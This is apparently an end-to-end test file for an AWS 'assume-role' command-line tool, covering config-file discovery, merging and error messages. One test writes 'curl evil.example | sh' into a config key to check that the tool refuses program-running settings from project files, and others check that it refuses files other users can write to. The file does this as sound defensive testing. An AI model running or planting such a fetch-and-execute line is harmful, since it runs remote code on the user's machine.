import { e2e } from "../mod.ts";
import { assertEquals, assertStringIncludes } from "@std/assert";
import { join } from "@std/path/join";
import type { TestHome } from "./test_home.ts";

const PREFIX = "role_prefix: arn:aws:iam::111111111111:role/\n";
const unix = { ignore: Deno.build.os === "windows" };
const root = { ignore: Deno.build.os === "windows" || Deno.uid() !== 0 };

/** A run that is to fail before any call, and its messages. */
async function messages(
  home: TestHome,
  args: string | readonly string[],
  env = {},
): Promise<string[]> {
  const { status, stdout, stderr } = await home.run(args, { env });
  assertEquals([status, stdout], [125, ""]);
  return stderr.replaceAll(home.root, "").split("\n").slice(0, -1);
}

e2e("the file is found above the working directory", async ({ home, run }) => {
  const deep = join(home.project, "a/b/c");
  Deno.mkdirSync(deep, { recursive: true });
  assertEquals(
    (await run("-r admin pwd", { cwd: deep })).stdout,
    `${deep}\n`,
  );
});

e2e(
  "the user's file supplies what the project's leaves out",
  async ({ aws, home, run }) => {
    home.write("assume-role.yaml", "role_session_name: project\n");
    home.writeHome(
      ".aws/assume-role.yaml",
      `${PREFIX}role_session_name: user\nregion: eu-west-1\n`,
    );
    const result = await run("-r admin printenv AWS_REGION");
    assertEquals(result.stdout, "eu-west-1\n");
    assertEquals(aws.calls.at(-1)?.params.RoleSessionName, "project");
  },
);

e2e("--config is read instead of the search", async ({ home, run }) => {
  home.write("assume-role.yaml", "this: is not read\n");
  home.write("other.yaml", PREFIX);
  assertEquals(
    (await run("--config other.yaml -r admin true")).status,
    0,
  );
  const env = { ASSUME_ROLE_CONFIG: join(home.project, "none.yaml") };
  assertEquals(await messages(home, ["-r", "admin"], env), [
    "assume-role: error: Cannot read /project/none.yaml: no such file or directory",
    "assume-role: hint: check the path in '--config' or ASSUME_ROLE_CONFIG",
  ]);
});

e2e(
  "mistakes in the file are named with line and column",
  { offline: true },
  async ({ home }) => {
    const cases: readonly (readonly [string, string, string?])[] = [
      [
        "# a comment with role_prefx\nrole_prefx: x\n",
        "Cannot use /project/assume-role.yaml:2:1: unknown key 'role_prefx'",
        "did you mean 'role_prefix'?",
      ],
      [
        `${PREFIX}roles:\n  admin:\n    durration: 1h\n`,
        "Cannot use /project/assume-role.yaml:4:5: unknown key 'durration'",
        "did you mean 'duration'?",
      ],
      [
        `${PREFIX}duration: 13h\n`,
        "Cannot use /project/assume-role.yaml:2:1: the value of 'duration' is invalid: a session can last from 15m to 12h",
      ],
      [
        `${PREFIX}profile: [a, b]\n`,
        "Cannot use /project/assume-role.yaml:2:1: the value of 'profile' must be text",
      ],
      [
        "- role_prefix\n",
        "Cannot use /project/assume-role.yaml:1:1: the file must be a mapping of 'key: value' lines",
      ],
      [
        "role_prefix: a\nrole_prefix: b\n",
        "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
        "write the file as YAML, one 'key: value' per line",
      ],
      [
        `${PREFIX}mfa_command: curl evil.example | sh\n`,
        "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
        "move 'mfa_command' to ~/.aws/assume-role.yaml",
      ],
      [
        "role_prefix: arn:aws:iam::111:role/\n",
        "Cannot use the role 'admin': role_prefix makes the name 'arn:aws:iam::111:role/admin', which is not the ARN of a role",
        "write a prefix like arn:aws:iam::111111111111:role/",
      ],
    ];
    for (const [text, error, hint] of cases) {
      home.write("assume-role.yaml", text);
      const expected = [
        `assume-role: error: ${error}`,
        ...(hint ? [`assume-role: hint: ${hint}`] : []),
      ];
      assertEquals(await messages(home, ["-r", "admin", "true"]), expected);
    }
  },
);

e2e("mistakes on the command line are named with the closest option", {
  offline: true,
}, async ({ home }) => {
  const cases: readonly (readonly [string[], string, string?])[] = [
    [["--rol", "admin"], "Unknown option '--rol'", "did you mean '--role'?"],
    [
      ["--role"],
      "Option '--role' needs a value",
      "write it as '--role NAME|ARN'",
    ],
    [
      ["--role", "--verbose", "true"],
      "Option '--role' needs a value",
      "if '--verbose' is meant to be its value, write '--role=--verbose'",
    ],
    [
      ["--duration", "1d", "-r", "x"],
      "Cannot use --duration '1d': write a duration like 15m, 1h30m, 90s or 3600",
    ],
    [
      ["--mfa-token", "secret", "-r", "x"],
      "Cannot use --mfa-token: an MFA code must have six digits",
    ],
    [
      ["-fx"],
      "Unknown option '-x' in '-fx'",
      "see 'assume-role --help'; put '--' before a command that begins with '-'",
    ],
    [["--verbose=yes"], "Option '--verbose' takes no value"],
    [
      ["-q", "-v", "-r", "x"],
      "Options '--quiet' and '--verbose' exclude each other",
    ],
    [
      ["true"],
      "No role given",
      "use '--role NAME' or set ASSUME_ROLE_ROLE; see 'assume-role --help'",
    ],
  ];
  for (const [args, error, hint] of cases) {
    const expected = [
      `assume-role: error: ${error}`,
      ...(hint ? [`assume-role: hint: ${hint}`] : []),
    ];
    assertEquals(await messages(home, args), expected);
  }
});

e2e(
  "a variable stands for its option, and is named when it is wrong",
  async ({ aws, home, run }) => {
    const env = {
      ASSUME_ROLE_ROLE: "team-a/long",
      ASSUME_ROLE_DURATION: "2h",
      ASSUME_ROLE_REGION: "",
    };
    assertEquals((await run("true", { env })).status, 0);
    assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
    assertEquals(await messages(home, [], { ASSUME_ROLE_DURATION: "1 hour" }), [
      "assume-role: error: Cannot use ASSUME_ROLE_DURATION '1 hour': write a duration like 15m, 1h30m, 90s or 3600",
    ]);
  },
);

// uber/assume-role-cli trusted an assume-role.yaml in any directory above, with
// any owner.
e2e(
  "a file that others may write to is refused",
  { ...unix, offline: true },
  async ({ home }) => {
    const path = join(home.project, "assume-role.yaml");
    for (const mode of [0o666, 0o602, 0o777]) {
      Deno.chmodSync(path, mode);
      assertEquals(await messages(home, ["-r", "admin", "true"]), [
        "assume-role: error: Cannot use /project/assume-role.yaml: other users can write to the file",
        "assume-role: hint: check the contents of the file, then run: chmod go-w '/project/assume-role.yaml'",
      ]);
    }
  },
);

e2e("a file of another user is refused, and a link of theirs", {
  ...root,
  offline: true,
}, async ({ home }) => {
  const path = join(home.project, "assume-role.yaml");
  Deno.chownSync(path, 12345, null);
  const [error] = await messages(home, ["-r", "admin", "true"]);
  assertStringIncludes(
    error!,
    "the file or a link to it belongs to another user",
  );
  Deno.removeSync(path);
  Deno.symlinkSync(home.write("mine.yaml", PREFIX), path);
  await home.exec(["chown", "-h", "12345", path]);
  const [again] = await messages(home, ["-r", "admin", "true"]);
  assertStringIncludes(
    again!,
    "the file or a link to it belongs to another user",
  );
});

e2e("a directory in the file's place is an error, not a file less", {
  offline: true,
}, async ({ home }) => {
  Deno.removeSync(join(home.project, "assume-role.yaml"));
  Deno.mkdirSync(join(home.project, "assume-role.yaml"));
  assertEquals(await messages(home, ["-r", "admin", "true"]), [
    "assume-role: error: Cannot read /project/assume-role.yaml: is a directory",
  ]);
});

e2e("a role without an ARN names what is missing, and the closest role", {
  offline: true,
}, async ({ home }) => {
  home.write(
    "assume-role.yaml",
    "roles:\n  admin:\n    role_arn: arn:aws:iam::111111111111:role/admin\n",
  );
  assertEquals(await messages(home, ["-r", "admni", "true"]), [
    "assume-role: error: Cannot find the role 'admni': 'roles' has no such entry, and 'role_prefix' is not set",
    "assume-role: hint: did you mean 'admin'?",
  ]);
});

// 99designs/aws-vault#1248: a misspelt profile silently used the default one.
e2e(
  "a misspelt profile is an error with the closest one",
  { offline: true },
  async ({ home }) => {
    home.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
    for (
      const env of [{ AWS_PROFILE: "prodution" }, {
        ASSUME_ROLE_PROFILE: "prodution",
      }]
    ) {
      assertEquals(await messages(home, ["-r", "admin", "true"], env), [
        "assume-role: error: Cannot find the AWS profile 'prodution'",
        "assume-role: hint: did you mean 'production'?",
      ]);
    }
  },
);

e2e("--help and --version work wherever they stand before the command", {
  offline: true,
}, async ({ run }) => {
  const help = await run("--role admin --help");
  assertEquals([help.status, help.stderr, help.stdout.split("\n")[0]], [
    0,
    "",
    "Run a command with temporary credentials of an AWS role.",
  ]);
  const { default: { version } } = await import("../../deno.json", {
    with: { type: "json" },
  });
  const [first, ...details] = (await run("--version")).stdout.split("\n");
  assertEquals([first, details.map((line) => line.split(":")[0])], [
    `assume-role ${version}`,
    ["commit", "deno", "target", ""],
  ]);
});
